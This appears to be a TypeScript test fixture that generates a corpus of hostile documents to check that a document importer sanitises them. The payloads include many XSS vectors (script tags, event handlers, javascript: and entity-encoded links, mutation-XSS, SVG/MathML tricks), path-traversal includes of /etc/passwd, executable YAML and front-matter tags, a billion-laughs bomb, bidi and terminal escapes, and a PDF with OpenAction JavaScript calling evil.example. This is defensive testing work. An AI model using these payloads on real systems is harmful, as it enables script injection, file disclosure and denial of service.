import { mkdirSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
import path from 'node:path';

/**
 * A corpus of hostile and broken documents, generated (never committed) into a temporary folder.
 * Every payload that could run sets `window.__pwned` (or opens a dialog) and every payload that
 * could load something names a host under `evil.example`, so the browser test can tell a payload
 * that worked from the app's own behaviour. Each fixture says which file it wrote, which document
 * (if any) must come out of the build, which warning must name it, and in words what must hold.
 *
 * Layout under `root`:
 *   corpus/   the input folder (documents, a Jekyll site, images, symlinks)
 *   outside/  files beside the corpus that traversal payloads aim at; they must never be read into the corpus
 *   canaries: paths that code in a document would create if it were ever executed
 */

export interface HostileFixture {
  /** Short name, also the file's base name. */
  name: string;
  /** The document's source label as the importer names it (`corpus/<path>`). */
  source: string;
  /** Whether a document must be stored for it (false: refused with a warning). */
  imported: boolean;
  /** A warning naming `source` whose message matches; null when no warning is due. */
  warning: RegExp | null;
  /** Strings that must appear in the stored plain text (the readable part survives). */
  textIncludes: string[];
  /** What must hold, in words (printed when a check fails). */
  holds: string;
}

export interface HostileCorpus {
  root: string;
  corpus: string;
  outside: string;
  /** Files that must never exist after the build (written only by executed code). */
  canaries: string[];
  /** A marker inside `outside/` files: must never appear in any stored document. */
  secret: string;
  /** Bytes of `outside/secreto.png`: must never be stored as an asset. */
  secretImage: Buffer;
  fixtures: HostileFixture[];
}

export interface HostileCorpusOptions {
  /**
   * Write the 50 MB file and the 10 MB single line (default true). The browser test leaves them
   * out: the 50 MB file is refused at import anyway, and a 10 MB line is a build-time concern.
   */
  large?: boolean;
}

/** A PNG header plus a unique chunk: a real-looking image whose bytes can be recognised. */
function pngWith(marker: string): Buffer {
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'),
    Buffer.from(marker),
  ]);
}

const PWN = 'top.__pwned=1';

export function writeHostileCorpus(root: string, options: HostileCorpusOptions = {}): HostileCorpus {
  const large = options.large ?? true;
  const corpus = path.join(root, 'corpus');
  const outside = path.join(root, 'outside');
  mkdirSync(path.join(corpus, 'img'), { recursive: true });
  mkdirSync(outside, { recursive: true });
  const secret = 'CONTENIDO-SECRETO-FUERA-DEL-CORPUS';
  const secretImage = pngWith(secret);
  writeFileSync(path.join(outside, 'secreto.txt'), `${secret}\n`);
  writeFileSync(path.join(outside, 'secreto.md'), `# ${secret}\n`);
  writeFileSync(path.join(outside, 'secreto.png'), secretImage);
  writeFileSync(path.join(corpus, 'img', 'foto.png'), pngWith('foto-local'));
  symlinkSync(path.join(outside, 'secreto.png'), path.join(corpus, 'img', 'enlace-fuera.png'));

  const canaries = {
    js: path.join(root, 'canary-js-front-matter'),
    coffee: path.join(root, 'canary-coffee-front-matter'),
    yamlTag: path.join(root, 'canary-yaml-tag'),
  };
  const fixtures: HostileFixture[] = [];
  const add = (
    file: string,
    content: string | Buffer,
    expect: { imported?: boolean; warning?: RegExp | null; text?: string[]; holds: string },
  ): void => {
    writeFileSync(path.join(corpus, file), content);
    fixtures.push({
      name: file.replace(/\.[^.]+$/, ''),
      source: `corpus/${file}`,
      imported: expect.imported ?? true,
      warning: expect.warning ?? null,
      textIncludes: expect.text ?? [],
      holds: expect.holds,
    });
  };
  const page = (title: string, body: string): string =>
    `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}</body></html>`;

  // --- Scripts and handlers ---------------------------------------------------------------
  add(
    'script-tags.md',
    `# Etiquetas script\n\nAntes del guion.\n\n<script>${PWN};alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\n<scr<script>ipt>${PWN}</scr</script>ipt>\n\nDespués del guion.\n`,
    {
      text: ['Antes del guion.', 'Después del guion.'],
      holds: 'no <script> of any spelling survives; the prose around it does',
    },
  );
  add(
    'event-handlers.html',
    page(
      'Manejadores de eventos',
      `<p onclick="${PWN}">Párrafo con onclick</p><img src=x onerror="${PWN}" alt="imagen rota"><details open ontoggle="${PWN}"><summary>Detalles</summary>abiertos</details><div onmouseover="${PWN}" onfocus="${PWN}" tabindex=0>foco</div><body onload="${PWN}"><a href="https://evil.example/" onmouseenter="${PWN}">enlace</a><video><source onerror="${PWN}"></video><input autofocus onfocus="${PWN}">`,
    ),
    {
      text: ['Párrafo con onclick', 'foco'],
      holds: 'no on* attribute anywhere; autofocus/ontoggle/onerror payloads are inert',
    },
  );

  // --- SVG and MathML -----------------------------------------------------------------------
  add(
    'svg-tricks.md',
    `# SVG\n\nTexto visible.\n\n<svg onload="${PWN}"><a xlink:href="javascript:${PWN}"><text>clic</text></a><animate attributeName="href" values="javascript:${PWN}"/><foreignObject><img src=x onerror="${PWN}"></foreignObject><use href="data:image/svg+xml,&lt;svg onload='${PWN}'/&gt;"/><image href="https://evil.example/i.png"/></svg>\n\n<svg><set attributeName="onmouseover" to="${PWN}"/></svg>\n`,
    {
      text: ['Texto visible.'],
      holds: 'SVG is removed with its content: no svg element, no xlink:href, no animate/set',
    },
  );
  add(
    'mathml-tricks.html',
    page(
      'MathML',
      `<p>Fórmula:</p><math><maction actiontype="statusline" xlink:href="javascript:${PWN}">x<mtext>clic</mtext></maction></math><math href="javascript:${PWN}"><mi>y</mi></math><math><annotation-xml encoding="text/html"><img src=x onerror="${PWN}"></annotation-xml></math>`,
    ),
    {
      text: ['Fórmula:'],
      holds: 'MathML is removed with its content: no math element, no href on math',
    },
  );

  // --- Mutation XSS -------------------------------------------------------------------------
  add(
    'mxss-noscript.html',
    page(
      'mXSS noscript',
      `<p>noscript</p><noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript><p>fin</p>`,
    ),
    {
      // The parser (scripting off) keeps the rest of the page inside <noscript>, which is stripped with its content.
      text: ['noscript'],
      holds: 'the noscript/title re-parse trick yields no img with onerror after serialise + parse',
    },
  );
  add(
    'mxss-svg-style.md',
    `# mXSS svg style\n\nUno.\n\n<svg><style><img src=x onerror="${PWN}"></style></svg>\n\n<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">\n\nDos.\n`,
    {
      text: ['Uno.'],
      holds: 'namespace confusion (style inside svg) never produces an img with a handler',
    },
  );
  add(
    'mxss-math-mglyph.html',
    page(
      'mXSS mglyph',
      `<p>mglyph</p><math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
    ),
    {
      text: ['mglyph'],
      holds: 'math/mtext/table/mglyph/style confusion and nested forms leave nothing executable',
    },
  );
  add(
    'mxss-comments-cdata.html',
    page(
      'Comentarios',
      `<p>comentarios</p><!--<img src=x onerror=${PWN}>--><![CDATA[<img src=x onerror=${PWN}>]]><p title="--><img src=x onerror=${PWN}>">fin</p><?xml <img src=x onerror=${PWN}>?>`,
    ),
    {
      text: ['comentarios'],
      holds: 'comments, CDATA and processing instructions cannot smuggle an element',
    },
  );

  // --- Dangerous URLs -----------------------------------------------------------------------
  add(
    'script-links.md',
    `# Enlaces con esquemas peligrosos\n\n[js](javascript:${PWN}) [mayúsculas](JaVaScRiPt:${PWN}) [vb](vbscript:msgbox) [datos](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+) [archivo](file:///etc/passwd)\n\n<javascript:${PWN}> [ref][malo] ![imagen js](javascript:${PWN})\n\n[malo]: javascript:${PWN}\n\n<a href="  javascript:${PWN}">espacios</a> <a href="\x01javascript:${PWN}">control</a>\n`,
    {
      warning: /^link with an unsupported scheme|^link with/,
      text: ['mayúsculas', 'archivo', 'espacios'],
      holds: 'only http(s)/mailto survive as href; each scheme is warned about; the link text stays',
    },
  );
  add(
    'entity-links.html',
    page(
      'Entidades',
      `<a href="&#106;avascript:${PWN}">decimal</a> <a href="java&#x09;script:${PWN}">tabulador</a> <a href="jav&#x0A;ascript:${PWN}">salto</a> <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${PWN}">hexadecimal</a> <a href="javascript&colon;${PWN}">colon</a> <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${PWN}">ceros</a> <a href="vbscript&#58;msgbox">vb</a> <a href="data&#58;text/html,&lt;script&gt;${PWN}&lt;/script&gt;">datos</a>`,
    ),
    {
      warning: /^link with/,
      text: ['decimal', 'tabulador', 'ceros'],
      holds: 'entity-encoded and whitespace-split schemes are decoded before the check and refused',
    },
  );
  add(
    'remote-images.md',
    `# Imágenes remotas\n\n![remota](https://evil.example/rastreo.png)\n\n<img src="//evil.example/pixel.gif" alt="sin esquema"> <img src="http://evil.example/p.gif" alt="http"> <img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" alt="srcset">\n\nFin del texto.\n`,
    {
      text: ['Fin del texto.'],
      holds: 'no img keeps a src; remote images become links the user may follow, never loads',
    },
  );
  add(
    'srcset.html',
    page(
      'Srcset',
      `<p>srcset</p><img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" alt="uno"><picture><source srcset="https://evil.example/s.webp" type="image/webp"><img alt="dos"></picture><link rel="preload" as="image" imagesrcset="https://evil.example/p.png 1x">`,
    ),
    {
      text: ['srcset'],
      holds: 'no srcset or imagesrcset, no picture/source',
    },
  );
  add(
    'css-url.html',
    page(
      'CSS',
      `<style>@import url(https://evil.example/a.css); body { background: url("https://evil.example/b.png") } p { behavior: url(x.htc) }</style><link rel="stylesheet" href="https://evil.example/c.css"><p style="background-image:url(https://evil.example/d.png)">estilo en línea</p><div style="width: expression(${PWN})">expresión</div><span style="background:u\\rl(https://evil.example/e.png)">escapado</span>`,
    ),
    {
      text: ['estilo en línea', 'expresión'],
      holds: 'no style attribute, no <style>, no <link>, no url( anywhere in attributes',
    },
  );
  add(
    'base-tag.html',
    page(
      'Base',
      `<base href="https://evil.example/"><p>base</p><a href="relativo.html">relativo</a><img src="relativa.png" alt="relativa">`,
    ),
    {
      text: ['base'],
      holds: 'no <base> (which would re-point every relative URL)',
    },
  );
  add(
    'meta-refresh.html',
    `<!DOCTYPE html><html><head><title>Meta refresh</title><meta http-equiv="refresh" content="0;url=javascript:${PWN}"><meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><p>refresco</p><meta http-equiv="refresh" content="1;url=https://evil.example/cuerpo"></body></html>`,
    {
      text: ['refresco'],
      holds: 'no <meta> at all (no refresh, no CSP override)',
    },
  );
  add(
    'forms.md',
    `# Formularios\n\nTexto del formulario.\n\n<form action="https://evil.example/robar" method="post"><input name="clave" value="x"><button formaction="javascript:${PWN}">Enviar</button><textarea>t</textarea><select><option>o</option></select></form>\n\n<isindex action="javascript:${PWN}"><input type="image" src="https://evil.example/i.png">\n`,
    {
      text: ['Texto del formulario.'],
      holds: 'no form, input, button, textarea, select; no action/formaction',
    },
  );
  add(
    'iframes.html',
    page(
      'Marcos',
      `<p>marcos</p><iframe src="https://evil.example/"></iframe><iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe><iframe src="javascript:parent.__pwned=1"></iframe><frameset><frame src="https://evil.example/f"></frameset><portal src="https://evil.example/p"></portal>`,
    ),
    {
      text: ['marcos'],
      holds: 'no iframe/frame/frameset/portal, no srcdoc',
    },
  );
  add(
    'object-embed.md',
    `# Objetos\n\nObjetos incrustados.\n\n<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="x.swf"></object>\n\n<embed src="https://evil.example/y.swf"> <embed src="javascript:${PWN}"> <applet code="X.class" codebase="https://evil.example/"></applet>\n`,
    {
      text: ['Objetos incrustados.'],
      holds: 'no object/embed/applet/param',
    },
  );
  add(
    'dom-clobbering.html',
    page(
      'Clobbering',
      `<p>clobbering</p><a id="__pwned" name="__pwned" href="https://evil.example/">a</a><img name="getElementById" alt="g"><form id="archive"><input name="search"></form><a id="defaultView">d</a>`,
    ),
    {
      text: ['clobbering'],
      holds:
        'every id/name is prefixed (user-content-), so no document element can shadow a window or document property',
    },
  );

  // --- Deep nesting -------------------------------------------------------------------------
  const depth = 10_000;
  add(
    'deep-html.html',
    page('Anidamiento profundo', `${'<div>'.repeat(depth)}fondo del pozo${'</div>'.repeat(depth)}`),
    {
      warning: /nested too deeply/,
      text: ['fondo del pozo'],
      holds: 'a 10,000-level element tree does not crash the build; the text is imported, flat',
    },
  );
  add('deep-blockquote.md', `# Citas anidadas\n\n${'> '.repeat(depth)}cita en el fondo\n`, {
    warning: /nested too deeply/,
    text: ['cita en el fondo'],
    holds: '10,000 nested blockquotes: imported as plain text with a warning',
  });
  add(
    'deep-raw-html.md',
    `# HTML anidado en Markdown\n\n${'<span>'.repeat(depth)}texto profundo${'</span>'.repeat(depth)}\n`,
    {
      warning: /nested too deeply|too large or too dense/,
      text: ['texto profundo'],
      holds: '10,000 nested raw HTML elements inside Markdown: imported without crashing',
    },
  );

  // --- Paths --------------------------------------------------------------------------------
  add(
    'path-traversal.md',
    `# Rutas que escapan\n\nImágenes hostiles.\n\n![a](../outside/secreto.png)\n![b](../../../../../../../etc/passwd)\n![c](%2e%2e%2foutside%2fsecreto.png)\n![d](/etc/passwd)\n![e](file:///etc/passwd)\n![f](img/enlace-fuera.png)\n![g](img/..%2f..%2foutside%2fsecreto.png)\n![h](/../outside/secreto.png)\n<img src="../outside/secreto.png" alt="html"> <img src="..%5coutside%5csecreto.png" alt="barra invertida">\n\n[documento de fuera](../outside/secreto.md)\n\n![local](img/foto.png)\n`,
    {
      warning: /refused: it (points outside the corpus folder|is a link to a file outside)/,
      text: ['Imágenes hostiles.'],
      holds: 'no image outside corpus/ is stored (plain, encoded, absolute, symlinked); the local image is',
    },
  );
  symlinkSync(path.join(outside, 'secreto.md'), path.join(corpus, 'enlace-documento.md'));
  fixtures.push({
    name: 'enlace-documento',
    source: 'corpus/enlace-documento.md',
    imported: false,
    warning: /symbolic link to a file outside the corpus folder/,
    textIncludes: [],
    holds: 'a symlink to a document outside the corpus is not followed',
  });
  symlinkSync(outside, path.join(corpus, 'carpeta-fuera'));
  fixtures.push({
    name: 'carpeta-fuera',
    source: 'corpus/carpeta-fuera',
    imported: false,
    warning: /symbolic link to a (file outside the corpus folder|folder)/,
    textIncludes: [],
    holds: 'a symlinked folder pointing outside is not walked',
  });

  // --- Front matter and Liquid --------------------------------------------------------------
  add(
    'front-matter-js.md',
    `---js\n{ title: (function () { require('fs').writeFileSync(${JSON.stringify(canaries.js)}, 'x'); return 'malo'; })() }\n---\n# Front matter JS\n\nNunca se ejecuta.\n`,
    {
      warning: /not supported and was not executed/,
      text: ['Nunca se ejecuta.'],
      holds: `---js is never evaluated: ${canaries.js} never appears`,
    },
  );
  add(
    'front-matter-coffee.md',
    `---coffee\ntitle: do -> require('fs').writeFileSync(${JSON.stringify(canaries.coffee)}, 'x')\n---\nCuerpo en coffee.\n`,
    {
      warning: /not supported and was not executed/,
      text: ['Cuerpo en coffee.'],
      holds: `---coffee is never evaluated: ${canaries.coffee} never appears`,
    },
  );
  const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (const [index, name] of ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].entries()) {
    const previous = 'abcdefgh'[index];
    bomb.push(`${name}: &${name} [${Array.from({ length: 9 }, () => `*${previous}`).join(',')}]`);
  }
  add('yaml-alias-bomb.md', `---\n${bomb.join('\n')}\ntitle: Bomba de alias\n---\nCuerpo de la bomba.\n`, {
    warning: /alias/i,
    text: ['Cuerpo de la bomba.'],
    holds: 'a billion-laughs alias bomb is refused quickly; the title is still read',
  });
  add(
    'yaml-js-tags.md',
    `---\ntitle: Etiquetas YAML\ndescription: !!js/function "function () { require('fs').writeFileSync(${JSON.stringify(canaries.yamlTag)}, 'x') }"\nfecha: !!js/undefined ''\npatron: !!js/regexp /x/\nobjeto: !!python/object:os.system ["touch ${canaries.yamlTag}"]\n__proto__:\n  polluted: si\nconstructor:\n  prototype:\n    polluted: si\n---\nCuerpo con etiquetas.\n`,
    {
      warning: /YAML tag is not supported/,
      text: ['Cuerpo con etiquetas.'],
      holds: `!!js/* and !!python/* tags are plain text; nothing runs (${canaries.yamlTag} absent); __proto__ keys pollute nothing`,
    },
  );
  add(
    'liquid-system-files.md',
    `---\ntitle: Liquid hostil\n---\nAntes.\n\n{% include /etc/passwd %}\n{% include_relative ../outside/secreto.txt %}\n{% include ../../outside/secreto.txt %}\n{% include_relative ../../../../../../etc/shadow %}\n{% render '/etc/hostname' %}\n{{ '/etc/passwd' | read_file }}\n{% raw %}{% include /etc/passwd %}{% endraw %}\n\nDespués.\n`,
    {
      warning: /Liquid/,
      text: ['Antes.', 'Después.'],
      holds: 'no include reads any file: neither /etc/passwd nor the secret beside the corpus appears',
    },
  );
  add(
    'front-matter-html.md',
    `---\ntitle: "<img src=x onerror=${PWN}>Título con HTML"\nauthor: "<script>${PWN}</script>Autora"\ntags: ["<svg onload=${PWN}>", "normal"]\ndescription: "<iframe src=https://evil.example/></iframe>"\n---\n# {{ page.title }}\n\n{{ page.description }}\n\nCuerpo normal.\n`,
    {
      text: ['Cuerpo normal.'],
      holds: 'HTML in front matter is text in metadata; substituted into the body it is sanitised',
    },
  );
  mkdirSync(path.join(corpus, 'sitio', '_posts'), { recursive: true });
  writeFileSync(
    path.join(corpus, 'sitio', '_config.yml'),
    `title: Sitio hostil\nurl: "javascript:${PWN}//"\nbaseurl: "//evil.example"\n`,
  );
  add(
    'sitio/_posts/2020-01-02-config-hostil.md',
    `---\ntitle: Configuración hostil\n---\nUn [inicio]({{ site.url }}/inicio) y ![logo]({{ site.baseurl }}/logo.png).\n\nTexto del sitio.\n`,
    {
      warning: /^link with|refused|missing|not found/,
      text: ['Texto del sitio.'],
      holds: 'site.* values from a hostile _config.yml cannot produce a script link or a remote image load',
    },
  );

  // A file name is data too: it becomes the source label and, without a heading, the title.
  add(`<img src=x onerror=${PWN}>\u202Enombre.txt`, 'Un documento sin título cuyo nombre de archivo es hostil.\n', {
    warning: /bidirectional/,
    text: ['nombre de archivo es hostil'],
    holds: 'a file name with markup and a bidi override becomes a plain-text title without the override',
  });

  add(
    'escape-terminal.md',
    `---\ntitle: Secuencias de terminal\ndate: "\u001b]0;titulo robado\u0007\u001b[2J\u001b[31mrojo\u202E"\n---\nCuerpo con secuencias {% \u001b[8moculto %}.\n`,
    {
      warning: /is not a date/,
      text: ['Cuerpo con secuencias'],
      holds:
        'terminal escape sequences and bidi controls quoted from a document appear escaped (\\u001b) in warnings, never raw',
    },
  );

  // --- Encodings and bytes ------------------------------------------------------------------
  add(
    'utf8-invalido.txt',
    Buffer.concat([
      Buffer.from('Texto en latin1: caf'),
      Buffer.from([0xe9, 0xff, 0xfe, 0xc0, 0xaf]),
      Buffer.from(' con leche.\n'),
    ]),
    {
      warning: /not valid UTF-8/,
      text: ['con leche.'],
      holds: 'invalid bytes become U+FFFD with a warning; the rest is imported',
    },
  );
  add(
    'nul-inicio.md',
    Buffer.concat([Buffer.from('# Nulos al inicio\n\n'), Buffer.from([0, 0, 0]), Buffer.from('texto\n')]),
    {
      imported: false,
      warning: /binary file/,
      holds: 'NUL bytes at the start mean binary: skipped with a warning',
    },
  );
  add(
    'nul-tarde.txt',
    Buffer.concat([
      Buffer.from(`Nulos tardíos\n\n${'relleno '.repeat(1200)}\n\n`),
      Buffer.from([0]),
      Buffer.from('despues del nulo'),
      Buffer.from([0]),
      Buffer.from('\n'),
    ]),
    {
      warning: /NUL/,
      text: ['despues del nulo'],
      holds: 'NUL bytes past the binary sniff are replaced (U+FFFD) with a warning, never stored',
    },
  );
  add(
    'bidi-titulo.md',
    `---\ntitle: "Factura \u202Efdp.exe"\nauthor: "Ana \u202EZepeda"\ntags: ["etiqueta\u202Eal reves"]\n---\nCuerpo con bidi.\n`,
    {
      warning: /bidirectional/,
      text: ['Cuerpo con bidi.'],
      holds: 'bidi override/embedding/isolate controls are removed from titles and other metadata',
    },
  );
  add('nfd-funcion.md', `# Gestio\u0301n de la funcio\u0301n pu\u0301blica\n\nTexto NFD sobre la funcio\u0301n.\n`, {
    text: ['función'],
    holds: 'decomposed accents are stored NFC; `funcion` and `función` both find it',
  });
  add('nfc-funcion.md', `# Función pública\n\nTexto NFC sobre la función.\n`, {
    text: ['función'],
    holds: 'the precomposed twin of nfd-funcion: both forms find both documents',
  });
  add('carta-pdf-hostil.pdf', hostilePdf(), {
    text: ['Carta PDF con acciones'],
    holds: 'a PDF with OpenAction JavaScript and a URI annotation: its text is imported, nothing runs or loads',
  });

  if (large) {
    const hugeFile = path.join(corpus, 'enorme-50mb.md');
    const descriptor = openSync(hugeFile, 'w');
    const block = Buffer.from(`# Enorme\n\n${'texto de relleno para un archivo enorme '.repeat(25_000)}\n\n`);
    for (let written = 0; written < 50 * 1024 * 1024; written += block.length) writeSync(descriptor, block);
    closeSync(descriptor);
    fixtures.push({
      name: 'enorme-50mb',
      source: 'corpus/enorme-50mb.md',
      imported: false,
      warning: /larger than 20 MB/,
      textIncludes: [],
      holds: 'a 50 MB file is refused with a size warning, without being read',
    });
    add('linea-10mb.txt', `${'palabra repetida '.repeat(Math.ceil((10 * 1024 * 1024) / 17))}\n`, {
      text: ['palabra repetida'],
      holds: 'a 10 MB single line imports as plain text in reasonable time',
    });
  }

  return { root, corpus, outside, canaries: Object.values(canaries), secret, secretImage, fixtures };
}

/**
 * A one-page PDF whose text is a sentence, with an OpenAction that runs JavaScript and a link
 * annotation to a remote URL: pdf.js must read the text and neither run the script nor follow the link.
 */
function hostilePdf(): Buffer {
  const stream = 'BT /F1 18 Tf 72 720 Td (Carta PDF con acciones hostiles) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\);) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 700 400 740] /A << /S /URI /URI (https://evil.example/pdf) >> >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}
